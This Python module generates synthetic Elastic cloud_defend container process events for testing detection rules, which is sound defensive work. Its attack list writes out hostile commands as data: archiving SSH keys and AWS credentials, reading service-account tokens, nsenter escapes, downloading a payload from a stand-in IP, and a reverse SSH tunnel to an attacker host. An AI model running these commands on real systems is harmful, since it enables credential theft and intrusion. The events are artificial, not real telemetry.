"""A generator of realistic Elastic Defend for Containers (cloud_defend) process events.

`generate_events(n, seed, attack_ratio)` returns `n` ECS documents shaped like cloud_defend's
process data stream (nested objects, `event.category`/`event.type` arrays, `process.args`
including argv[0], container and orchestrator fields), from a fixed population of pods.
About `attack_ratio` of them run commands that Elastic's container rules detect (archiving
SSH keys, reading service-account tokens, nsenter, SOCKS proxies, reverse shells, ...).
Deterministic for a given seed.
"""

from __future__ import annotations

import hashlib
import random
from datetime import UTC, datetime, timedelta
from typing import Any

_WORKLOADS = [
    ("shop", "frontend", "nginx", "1.27"),
    ("shop", "checkout", "python", "3.12-slim"),
    ("shop", "cart", "node", "20-alpine"),
    ("payments", "ledger", "eclipse-temurin", "21-jre"),
    ("payments", "gateway", "golang", "1.22"),
    ("data", "etl-worker", "python", "3.11"),
    ("data", "postgres", "postgres", "16"),
    ("monitoring", "exporter", "prom/node-exporter", "v1.8.0"),
]
_BENIGN = [
    ["nginx", "-g", "daemon off;"],
    ["python3", "app.py", "--port", "8080"],
    ["node", "server.js"],
    ["java", "-jar", "/app/ledger.jar"],
    ["sh", "-c", "curl -fsS http://localhost:8080/healthz"],
    ["curl", "-fsS", "http://localhost:8080/healthz"],
    ["ls", "-la", "/app"],
    ["cat", "/etc/os-release"],
    ["ps", "aux"],
    ["sleep", "30"],
    ["date"],
    ["env"],
    ["grep", "-c", "ERROR", "/var/log/app.log"],
    ["tar", "-xzf", "/tmp/assets.tgz", "-C", "/app/static"],
    ["gzip", "-d", "/tmp/report.csv.gz"],
    ["pg_isready", "-h", "127.0.0.1"],
    ["bash", "-c", "echo ready"],
    ["find", "/app", "-name", "*.pyc", "-delete"],
    ["wget", "-q", "--spider", "http://localhost:9100/metrics"],
    ["id"],
]
# Commands Elastic's cloud_defend rules are written to catch.
_ATTACKS = [
    ["tar", "-czf", "/tmp/k.tgz", "/root/.ssh/id_rsa"],
    ["zip", "-r", "/tmp/creds.zip", "/root/.aws/credentials"],
    ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    ["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "-p", "bash"],
    ["curl", "--socks5-hostname", "10.0.0.9:1080", "http://example.com"],
    ["grep", "-r", "aws_secret_access_key", "/"],
    ["nc", "-lvnp", "4444"],
    ["wget", "-O", "/tmp/payload", "http://203.0.113.7/payload"],
    ["chmod", "+x", "/tmp/payload"],
    ["kubectl", "get", "secrets", "-A"],
    ["bash", "-i"],
    ["find", "/", "-name", "id_rsa"],
    ["mount", "/dev/sda1", "/mnt"],
    ["ssh", "-R", "8080:localhost:80", "attacker@203.0.113.7"],
]
_SHELLS = ["sh", "bash", "dash"]
_EPOCH = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


def _hex_id(*parts: object) -> str:
    return hashlib.sha256("/".join(str(p) for p in parts).encode()).hexdigest()


def _pods(rng: random.Random, count: int) -> list[dict[str, Any]]:
    pods = []
    for index in range(count):
        namespace, app, image, tag = _WORKLOADS[index % len(_WORKLOADS)]
        suffix = f"{rng.randrange(16**10):010x}"[:10]
        pods.append(
            {
                "namespace": namespace,
                "pod": f"{app}-{suffix[:5]}-{suffix[5:]}",
                "container_id": _hex_id(namespace, app, index),
                "container_name": app,
                "image": image,
                "tag": tag,
                "node": f"worker-{index % 3 + 1}",
                "privileged": index % 11 == 0,
            }
        )
    return pods


def _process(
    rng: random.Random, argv: list[str], parent_argv: list[str], pid: int, pod: dict[str, Any]
) -> dict[str, Any]:
    name = argv[0].rsplit("/", 1)[-1]
    parent_name = parent_argv[0].rsplit("/", 1)[-1]
    return {
        "name": name,
        "args": list(argv),
        "args_count": len(argv),
        "executable": argv[0] if argv[0].startswith("/") else f"/usr/bin/{name}",
        "pid": pid,
        "entity_id": _hex_id(pod["container_id"], pid)[:32],
        "working_directory": "/app",
        "interactive": parent_name in _SHELLS and rng.random() < 0.3,
        "parent": {
            "name": parent_name,
            "args": list(parent_argv),
            "executable": f"/usr/bin/{parent_name}",
            "pid": pid - 1,
            "entity_id": _hex_id(pod["container_id"], pid - 1)[:32],
            "interactive": False,
        },
        "entry_leader": {
            "entry_meta": {"type": "container"},
            "name": "containerd-shim",
            "pid": 1,
            "same_as_process": False,
        },
        "user": {"id": "0", "name": "root"},
    }


def generate_events(n: int, seed: int = 7, attack_ratio: float = 0.01) -> list[dict[str, Any]]:
    """`n` cloud_defend-shaped process events; about `attack_ratio` of them are malicious."""
    rng = random.Random(seed)
    pods = _pods(rng, 24)
    events: list[dict[str, Any]] = []
    moment = _EPOCH
    for index in range(n):
        pod = pods[rng.randrange(len(pods))]
        moment += timedelta(milliseconds=rng.randrange(1, 40))
        attack = rng.random() < attack_ratio
        argv = rng.choice(_ATTACKS if attack else _BENIGN)
        parent = [rng.choice(_SHELLS), "-c", " ".join(argv)] if rng.random() < 0.5 else ["runc"]
        kind = rng.random()
        event_type, action = (
            ("start", "exec")
            if kind < 0.8
            else (("start", "fork") if kind < 0.9 else ("end", "end"))
        )
        timestamp = moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")
        ingested = (moment + timedelta(milliseconds=350)).isoformat(timespec="milliseconds")
        events.append(
            {
                "@timestamp": timestamp,
                "event": {
                    "kind": "event",
                    "category": ["process"],
                    "type": [event_type],
                    "action": action,
                    "module": "cloud_defend",
                    "dataset": "cloud_defend.process",
                    "ingested": ingested.replace("+00:00", "Z"),
                },
                "host": {
                    "name": pod["node"],
                    "hostname": pod["node"],
                    "os": {"type": "linux", "kernel": "6.8.0-45-generic"},
                },
                "process": _process(rng, argv, parent, 1000 + index * 2, pod),
                "user": {"id": "0"},
                "group": {"id": "0"},
                "container": {
                    "id": pod["container_id"],
                    "name": pod["container_name"],
                    "image": {"name": pod["image"], "tag": pod["tag"]},
                    "security_context": {"privileged": pod["privileged"]},
                },
                "orchestrator": {
                    "namespace": pod["namespace"],
                    "resource": {"name": pod["pod"], "type": "pod"},
                    "cluster": {"name": "prod-eu-1", "id": "c0ffee"},
                },
                "cloud_defend": {"hook_point": ["tracepoint__sched_process_exec"]},
            }
        )
    return events
